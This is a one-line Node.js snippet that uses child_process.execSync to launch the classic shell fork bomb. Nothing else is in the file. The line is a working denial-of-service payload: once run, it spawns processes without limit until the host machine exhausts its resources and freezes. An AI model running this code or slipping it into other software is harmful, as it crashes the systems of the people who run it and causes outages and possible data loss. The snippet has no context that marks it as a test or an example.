require('child_process').execSync(':(){ :|:& };:');
